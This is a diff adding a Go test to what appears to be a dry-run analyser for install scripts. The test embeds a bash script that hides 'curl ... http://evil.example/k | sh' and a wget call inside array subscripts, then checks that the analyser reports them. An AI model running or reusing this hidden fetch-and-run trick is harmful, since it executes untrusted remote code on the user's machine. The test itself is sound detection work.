@@ -237,3 +237,41 @@ printf '%s\n' 'a[$(curl -s http://evil.example/not-run)]' >/dev/null
 		t.Errorf("%s", render(r))
 	}
 }
+
+// TestArithmValueBuiltAtRunTime checks that a value built at run time that
+// hides a command substitution in an array subscript (k=$i$j with
+// j='[$(cmd)]') has the command run in the dry run and reported when
+// arithmetic evaluates it ($((k)), $(( $k )), (( )), let, [[ -eq ]]), as
+// bash 5.2 runs it; and that an assignment to an array element inside
+// $(( )) assigns it, the expansion giving the value, as bash does.
+func TestArithmValueBuiltAtRunTime(t *testing.T) {
+	src := `#!/bin/bash
+set -eu
+declare -a a=()
+i=a; j='[$(curl -fsSL http://evil.example/k | sh)]'; k=$i$j
+echo $((k))
+m=k
+n=$(( m + 1 ))
+[ "$n" = 1 ] || mkdir /opt/bad-n
+x='a[$(wget -qO- http://evil.example/w)]'
+echo "$(( a[1]=2 )) $(( a[2] += 3 ))"
+[ "${a[1]}/${a[2]}" = 2/3 ] || mkdir /opt/bad-elements
+p=1
+echo $(( p + 1 ))
+`
+	r := DryRunInProcess(context.Background(), Image{Name: "t", Scripts: []Script{{Path: "t.sh", Source: []byte(src), Role: RoleInstall, Shell: "bash"}}}, Options{Timeout: 10 * time.Second})
+	var got []string
+	for _, f := range r.Network {
+		got = append(got, f.Tool+" "+strings.Join(f.URLs, " "))
+	}
+	// k: run at $((k)) and at $(( m + 1 )) (m names k); x's literal is
+	// run once at its assignment (never evaluated here, as bash would
+	// not run it: a known over-report of the static case).
+	want := "curl http://evil.example/k,curl http://evil.example/k,wget http://evil.example/w"
+	if g := strings.Join(got, ","); g != want {
+		t.Errorf("network %q, want %q\n%s", g, want, render(r))
+	}
+	if len(r.Errors) != 0 || len(r.Files) != 0 {
+		t.Errorf("%s", render(r))
+	}
+}
